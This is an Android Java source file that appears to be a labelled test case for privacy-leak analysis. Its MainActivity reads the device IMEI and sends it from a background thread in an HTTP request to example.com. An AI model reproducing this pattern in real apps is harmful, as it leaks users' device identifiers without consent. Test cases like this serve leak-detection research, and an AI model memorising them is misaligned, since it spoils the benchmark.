// about       An anonymous class captures the value and sends it from a thread.
// leak        DEV_IMEI network
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    final String id = phone.getDeviceId();
    final String topic = "news";
    new Thread() {
      @Override
      public void run() {
        // The captured value.
        load("https://www.example.com/get?q=" + id);
      }
    }.start();
  }

  private static void load(String address) {
    try {
      HttpURLConnection link = (HttpURLConnection) new URL(address).openConnection();
      InputStream in = link.getInputStream();
      in.read();
      in.close();
    } catch (IOException e) {
      Log.w("News", "not loaded");
    }
  }
}
